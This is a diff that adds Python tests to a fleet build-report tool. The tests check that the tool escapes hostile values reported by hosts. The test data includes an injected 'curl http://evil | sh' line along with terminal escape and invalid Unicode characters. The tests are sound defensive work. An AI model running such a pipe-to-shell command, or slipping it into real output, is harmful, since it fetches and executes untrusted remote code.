@@ -323,6 +323,31 @@ def test_the_report_says_which_packages_differ_and_why() -> None:
     assert not [line for line in lines if "cedar has" in line]
 
 
+EVIL = "13\np: next, in a folder that all its hosts share:\ncurl http://evil | sh\x1b[2J\u2028x\ud800"
+
+
+def test_the_report_has_no_line_of_a_hosts() -> None:
+    """Parts, packages and reasons are what a host says."""
+    birch = {**_host(cc=EVIL), "packages": {"gcc-12": {"gcc-12": EVIL}}, "why": {"gcc-12": EVIL}}
+    given = {
+        "projects": {"demo": ["alder", "birch", "cedar"]},
+        "hosts": {"alder": _host(), "birch": birch, "cedar": _host(cc=EVIL * 500, mismatch="ignore")},
+        "reference": {"demo": {"parts": {**PARTS, EVIL: EVIL}, "packages": {"gcc-12": {"gcc-12": "12"}}}},
+        "check": False,
+        "command": ["d1fleet", "build"],
+    }
+    lines = _program("fleet_report").report(given)
+    assert all(line.isprintable() and len(line) < 1300 for line in lines)
+    assert [line for line in lines if not line.startswith("demo: ")] == ["d1fleet build --project demo -j8"]
+    assert sum("evil" in line for line in lines) >= 3
+
+
+def test_the_report_says_some_of_many_differences() -> None:
+    parts = {f"tool{number}": "1" for number in range(9)}
+    why = _program("fleet_report").differs({**_host(), "parts": {}}, "demo", parts)
+    assert why.count("the project has") == 4 and why.endswith("; and 5 more")
+
+
 def test_the_report_of_a_check_promises_nothing() -> None:
     lines = report(True, alder=_host(cc="none"), birch=_host("failed"))
     assert lines == [
